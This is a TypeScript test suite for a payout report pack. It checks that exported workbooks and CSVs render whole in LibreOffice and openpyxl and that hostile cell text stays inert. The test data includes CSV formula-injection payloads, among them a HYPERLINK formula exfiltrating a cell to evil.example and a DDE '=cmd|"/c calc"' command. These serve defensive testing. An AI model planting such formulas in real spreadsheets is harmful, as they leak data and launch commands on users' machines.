/**
 * The pack as an accountant opens it, in real programs: LibreOffice Calc
 * renders the workbook to PDF (no `###`, every Summary amount and every
 * header whole, landscape pages, the Summary's blocks on the pages expected)
 * and imports payouts.csv with its default options (hostile text stays
 * text); openpyxl, a reader independent of ours, checks cell types,
 * quotePrefix, panes and print setup. Skips, saying why, when the programs
 * are not installed (CI installs them: `.ci/run`).
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeReportPack, type ReportPackResult } from '../../src/reports/report-pack.js';
import { resolveReportPeriod } from '../../src/reports/report-period.js';
import { layoutBlocks } from '../../src/reports/sections/sheet-blocks.js';
import { summaryBlocks } from '../../src/reports/sections/summary-sheet.js';
import { TRUNCATION_MARKER } from '../../src/reports/writers/cell-text.js';
import { formatMoney } from '../../src/shared/money.js';
import { createTestLedger, type TestLedger } from '../helpers/dialects.js';
import { LedgerFixtures } from '../helpers/ledger-fixtures.js';
import { readCsv } from '../helpers/report-readers.js';
import { clientsMissing, type InspectedSheet, inspectXlsx, libreOfficeConvert, pdfPages, pdfPageSizes } from '../helpers/spreadsheet-clients.js';
import { tempDirForSuite } from '../helpers/temp-dir.js';

const ZONE = 'Europe/Bucharest';
const at = (iso: string): number => Date.parse(iso);
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C2,"Click")';

/** Every hostile text of issue #15, by where it goes. */
const HOSTILE = {
  nulHyperlink: `\u0000${HYPERLINK}`,
  zeroWidthFormula: '\u200B=1+2',
  spaceAt: ' @SUM(A1)',
  tabFormula: '\t=1+1',
  ooxmlEscape: 'Invoice_x0041_B',
  controls: 'bell\u0007 and \u001Fescape\u001B',
  loneSurrogate: 'lone \uD800 and \uFFFE end',
  // The cut falls inside the emoji's surrogate pair unless it is made on a code-point boundary.
  long: `${'a'.repeat(32_767 - TRUNCATION_MARKER.length - 1)}😀${'b'.repeat(200)}`,
  note: '\u0001=1+1 checked with the bank',
};

const missing = clientsMissing();
const suite = missing.length === 0 ? describe : describe.skip;
const name = missing.length === 0 ? 'the pack in LibreOffice Calc and openpyxl' : `the pack in LibreOffice Calc and openpyxl (skipped: ${missing.join(', ')} not installed)`;

suite(name, () => {
  let t: TestLedger;
  let pack: ReportPackResult;
  let pages: string[];
  let sheets: InspectedSheet[];
  let csvInCalc: InspectedSheet[];
  const out = tempDirForSuite('payout-recon-clients-');
  const october = resolveReportPeriod({ month: '2026-10' }, ZONE);

  beforeAll(async () => {
    t = await createTestLedger('sqlite');
    const f = new LedgerFixtures(t.ledger);
    const day = (n: number): number => at(`2026-10-${String(n).padStart(2, '0')}T10:00:00Z`);
    // Amounts the issue saw as `###`, in 2-, 3- and 0-decimal currencies.
    await f.payout({ providerPayoutId: 'EUR-BIG-1', amount: 100_000_000, currency: 'EUR', purpose: 'EDUCATION', createdAt: day(1) });
    await f.payout({ providerPayoutId: 'EUR-BIG-2', amount: 53_919_285, currency: 'EUR', purpose: 'FAMILY_SUPPORT', createdAt: day(2) });
    await f.payout({ providerPayoutId: 'KWD-BIG', amount: 114_844_870, currency: 'KWD', purpose: 'EDUCATION', createdAt: day(3) });
    await f.payout({ providerPayoutId: 'JPY-BIG', amount: 987_654_321, currency: 'JPY', createdAt: day(4) });
    await f.payout({ providerPayoutId: 'BHD-1', amount: 1_234_567, currency: 'BHD', status: 'failed', createdAt: day(5) });
    for (const [i, currency] of ['USD', 'GBP', 'RON', 'CHF', 'PLN', 'HUF', 'CZK', 'SEK'].entries()) {
      await f.payout({ providerPayoutId: `${currency}-1`, amount: 98_765_432_10 + i, currency, status: i % 2 ? 'pending' : 'succeeded', createdAt: day(6 + i) });
    }
    // Hostile text in every place text reaches a cell.
    await f.payout({ providerPayoutId: '-777', merchantTransactionId: '-2', description: HOSTILE.nulHyperlink, amount: -250, createdAt: day(20) });
    await f.payout({ providerPayoutId: 'H-2', merchantTransactionId: HOSTILE.ooxmlEscape, description: HOSTILE.zeroWidthFormula, createdAt: day(20) });
    await f.payout({ providerPayoutId: 'H-3', merchantTransactionId: HOSTILE.spaceAt, description: HOSTILE.tabFormula, createdAt: day(21) });
    await f.payout({ providerPayoutId: 'H-4', merchantTransactionId: '00123', description: HOSTILE.controls, createdAt: day(21) });
    await f.payout({ providerPayoutId: 'H-5', description: HOSTILE.loneSurrogate, createdAt: day(22) });
    const long = await f.payout({ providerPayoutId: 'H-LONG', description: HOSTILE.long, createdAt: day(22) });
    await f.exception({ kind: 'status_mismatch', payoutId: long, status: 'resolved', resolvedBy: 'ana', resolutionNote: HOSTILE.note });
    await f.balanceSnapshot({ amount: 153_919_285, currency: 'EUR', takenAt: at('2026-09-30T10:00:00Z') });
    await f.balanceSnapshot({ amount: 114_844_870, currency: 'KWD', takenAt: at('2026-10-31T10:00:00Z') });
    await f.alert({ kind: 'low_balance', title: '=cmd|"/c calc"!A1', firedAt: at('2026-10-10T15:00:00Z') });
    await f.syncWatermark('smart2pay', at('2026-11-01T06:00:00Z'));
    pack = await writeReportPack(t.ledger, { period: october, format: 'both', outDir: out.dir, now: at('2026-11-02T08:00:00Z') });

    // One LibreOffice start per target format.
    libreOfficeConvert([pack.xlsx!], 'pdf', out.dir);
    const calcDir = path.join(out.dir, 'csv-in-calc');
    libreOfficeConvert([path.join(pack.csvDir!, 'payouts.csv')], 'xlsx', calcDir);
    pages = pdfPages(pack.xlsx!.replace(/\.xlsx$/, '.pdf'));
    sheets = inspectXlsx(pack.xlsx!);
    csvInCalc = inspectXlsx(path.join(calcDir, 'payouts.xlsx'));
  }, 300_000);
  afterAll(async () => {
    await t.cleanup();
    out.remove();
  });

  const sheet = (title: string): InspectedSheet => {
    const s = sheets.find((x) => x.name === title);
    if (!s) throw new Error(`no sheet ${title}`);
    return s;
  };
  /** The printed pages of a sheet: its name is the footer's left part. */
  const pagesOf = (title: string): string[] => pages.filter((p) => new RegExp(`^\\s*${title}\\s{2,}.*Page \\d+ of \\d+\\s*$`, 'm').test(p));
  /** An amount as the currency format shows it: `1,539,192.85 EUR`. */
  const shown = (amount: string, currency: string): string => {
    const [whole = '', fraction] = amount.replace('-', '').split('.');
    return `${amount.startsWith('-') ? '-' : ''}${whole.replace(/\B(?=(\d{3})+(?!\d))/g, ',')}${fraction === undefined ? '' : `.${fraction}`} ${currency}`;
  };
  const summaryCsv = (): Record<string, string>[] => readCsv(path.join(pack.csvDir!, 'summary.csv')).records;

  it('renders without ###, on landscape pages, each sheet footed with its name, the period and "Page N of M"', () => {
    const all = pages.join('\n');
    expect(all).not.toContain('###');
    for (const size of pdfPageSizes(pack.xlsx!.replace(/\.xlsx$/, '.pdf'))) expect(size.width).toBeGreaterThan(size.height);
    for (const title of ['Summary', 'By purpose', 'Payouts', 'Exceptions', 'Refunds', 'Balance']) {
      expect(pagesOf(title).length, title).toBeGreaterThan(0);
    }
    expect(pages.every((p) => p.includes('Payouts, October 2026, Europe/Bucharest'))).toBe(true);
  });

  it('shows the Summary with a real title and every amount whole, each block on one page', () => {
    const summary = pagesOf('Summary');
    const layout = layoutBlocks(summaryBlocks(pack.summary));
    expect(layout.rowBreaks.length).toBeGreaterThan(0); // this pack is long enough to need a second page
    expect(summary).toHaveLength(layout.rowBreaks.length + 1);
    const pageOf = (text: string): number[] => summary.flatMap((page, i) => (page.includes(text) ? [i] : []));
    const lastOutcome = pack.summary.outcomes.at(-1)!;
    const blockEdges: [string, string][] = [
      ['Payouts in the period', 'Generated at'],
      ['Payouts by status', 'Open includes payouts still authorized'],
      ['Reconciliation', shown(formatMoney(lastOutcome.amount, lastOutcome.currency), lastOutcome.currency)],
      ['Prefunding balance', '114,844.870 KWD'],
      ['Alerts in the period', '=cmd|"/c calc"!A1'],
    ];
    for (const [first, last] of blockEdges) {
      expect(pageOf(first), first).toHaveLength(1);
      expect(pageOf(last), last).toContain(pageOf(first)[0]);
    }
    const text = summary.join('\n');
    expect(text).toContain('Payouts, October 2026, Europe/Bucharest');
    const amounts = summaryCsv().filter((r) => r.amount !== '');
    expect(amounts.length).toBeGreaterThan(40);
    for (const r of amounts) expect(text).toContain(shown(r.amount!, r.currency!));
    expect(text).toContain('1,539,192.85 EUR');
    expect(text).toContain('114,844.870 KWD');
    expect(text).toContain('987,654,321 JPY');
    // Headings wrap at spaces inside their column: every word is printed whole.
    for (const label of ['Opening balance', `Opening as of (${ZONE})`, `Closing as of (${ZONE})`, `Resolved at (${ZONE})`, 'Paid (succeeded)', 'All statuses']) {
      for (const word of label.split(' ')) expect(text).toContain(word);
    }
    expect(text).toContain('Opening balance');
  });

  it('prints every data sheet header whole, on every page', () => {
    for (const s of sheets.filter((x) => x.name !== 'Summary')) {
      const titles = s.cells.filter((c) => /^[A-Z]+1$/.test(c.ref)).map((c) => String(c.value));
      const printed = pagesOf(s.name);
      for (const page of printed) {
        // Long headers may wrap to two lines in narrow columns: compare words.
        for (const title of titles) for (const word of title.split(/\s+/)) expect(page, `${s.name}: ${title}\n${page.slice(0, 2000)}`).toContain(word);
      }
    }
  });

  it('keeps hostile text inert and visible as text in the rendered workbook', () => {
    const payouts = pagesOf('Payouts').join('\n');
    // Long text wraps inside its column, on two lines here.
    expect(payouts).toContain('=HYPERLINK("http://evil.example/?');
    expect(payouts).toContain('leak="&C2,"Click")');
    expect(payouts).not.toMatch(/(^|\s)Click(\s|$)/m);
    expect(payouts).toContain('Invoice_x0041_B');
    expect(payouts).toContain('-777');
    expect(pages.join('\n')).not.toContain("'=");
  });

  it('reads back in openpyxl: text with quotePrefix where it could be a formula or a number, never an apostrophe', () => {
    const trigger = /^[\s\u200B-\u200D\u2060\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\s]*[\t\r]/;
    for (const s of sheets) {
      for (const c of s.cells) {
        expect(c.type, `${s.name}!${c.ref}`).not.toBe('f');
        if (typeof c.value !== 'string') continue;
        expect(c.value.startsWith("'"), `${s.name}!${c.ref}`).toBe(false);
        if (trigger.test(c.value)) expect(c.quotePrefix, `${s.name}!${c.ref} ${JSON.stringify(c.value)}`).toBe(true);
      }
    }
    const payouts = sheet('Payouts');
    const row = (id: string): Map<string, (typeof payouts.cells)[number]> => {
      const r = payouts.cells.find((c) => c.ref.startsWith('B') && c.value === id)!.ref.slice(1);
      const header = new Map(payouts.cells.filter((c) => /^[A-Z]+1$/.test(c.ref)).map((c) => [c.ref.replace(/\d+$/, ''), String(c.value)]));
      return new Map(payouts.cells.filter((c) => c.ref.replace(/^[A-Z]+/, '') === r).map((c) => [header.get(c.ref.replace(/\d+$/, ''))!, c]));
    };
    const evil = row('-777');
    expect(evil.get('Payout ID')).toMatchObject({ type: 's', value: '-777', quotePrefix: true });
    expect(evil.get('Merchant transaction ID')).toMatchObject({ type: 's', value: '-2', quotePrefix: true });
    expect(evil.get('Description')).toMatchObject({ type: 's', value: HYPERLINK, quotePrefix: true });
    expect(evil.get('Amount')).toMatchObject({ type: 'n', value: -2.5, quotePrefix: false });
    expect(row('H-4').get('Merchant transaction ID')).toMatchObject({ type: 's', value: '00123', quotePrefix: true });
    expect(row('H-4').get('Description')?.value).toBe('bell and escape');
    // (SQLite hands a lone surrogate back as one or more U+FFFD already.)
    expect(row('H-5').get('Description')?.value).toMatch(/^lone \uFFFD+ and {2}end$/);
    expect(row('H-3').get('Description')).toMatchObject({ value: HOSTILE.tabFormula, quotePrefix: true });
    const long = String(row('H-LONG').get('Description')?.value);
    expect(long.length).toBeLessThanOrEqual(32_767);
    expect(long.endsWith(`a${TRUNCATION_MARKER}`)).toBe(true);
    const note = sheet('Exceptions').cells.find((c) => c.value === '=1+1 checked with the bank');
    expect(note?.quotePrefix).toBe(true);
  });

  it('freezes the header, repeats it on every printed page and prints landscape, fit to width', () => {
    for (const s of sheets) {
      expect([s.orientation, s.paperSize, s.fitToPage, s.fitToWidth, s.fitToHeight], s.name).toEqual(['landscape', '9', true, 1, 0]);
      expect(s.footer, s.name).toBe('&A|Payouts, October 2026, Europe/Bucharest|Page &P of &N');
      if (s.name === 'Summary') continue;
      expect(s.freezePanes, s.name).toBe('A2');
      expect(s.printTitleRows, s.name).toBe('$1:$1');
    }
  });

  it('keeps totals out of the By purpose table: a pivot of its rows per currency equals the Summary', () => {
    const byPurpose = sheet('By purpose');
    const lastDataRow = Number(/:[A-Z]+(\d+)$/.exec(byPurpose.autoFilter ?? '')?.[1]);
    const column = (letter: string, row: number): InspectedSheet['cells'][number] | undefined => byPurpose.cells.find((c) => c.ref === `${letter}${row}`);
    const pivot = new Map<string, { count: number; paid: number; all: number }>();
    for (let r = 2; r <= lastDataRow; r++) {
      const currency = String(column('C', r)?.value);
      const p = pivot.get(currency) ?? { count: 0, paid: 0, all: 0 };
      p.count += Number(column('E', r)?.value);
      p.all += Number(column('F', r)?.value);
      if (column('D', r)?.value === 'succeeded') p.paid += Number(column('F', r)?.value);
      pivot.set(currency, p);
    }
    // The totals block sits below, after an empty row, outside the filter.
    expect(column('A', lastDataRow + 1)).toBeUndefined();
    expect(String(column('A', lastDataRow + 2)?.value)).toMatch(/^Totals per currency/);
    const facts = summaryCsv();
    const fact = (item: string, currency: string): Record<string, string> => facts.find((r) => r.section === 'status' && r.item === item && r.currency === currency)!;
    let payouts = 0;
    for (const [currency, p] of pivot) {
      payouts += p.count;
      expect(p.count, currency).toBe(Number(fact('all_statuses', currency).count));
      expect(p.all.toFixed(3), currency).toBe(Number(fact('all_statuses', currency).amount).toFixed(3));
      expect(p.paid.toFixed(3), currency).toBe(Number(fact('succeeded', currency).amount).toFixed(3));
    }
    expect(payouts).toBe(pack.summary.payouts);
    const csv = readCsv(path.join(pack.csvDir!, 'by-purpose.csv')).records;
    expect(csv.reduce((s, r) => s + Number(r.count), 0)).toBe(pack.summary.payouts);
    expect(csv).toHaveLength(lastDataRow - 1);
  });

  it('opens payouts.csv in Calc with default options without turning hostile text into formulas', () => {
    const cells = csvInCalc[0]!.cells;
    expect(cells.filter((c) => c.type === 'f')).toEqual([]);
    const description = cells.find((c) => typeof c.value === 'string' && c.value.includes('HYPERLINK'));
    expect(description?.type).toBe('s');
    expect(String(description?.value)).toBe(`'${HYPERLINK}`);
    const raw = readFileSync(path.join(pack.csvDir!, 'payouts.csv'), 'utf8');
    // eslint-disable-next-line no-control-regex
    expect(raw).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/);
    expect(raw).toContain(`"'${HYPERLINK.replace(/"/g, '""')}"`);
  });
});
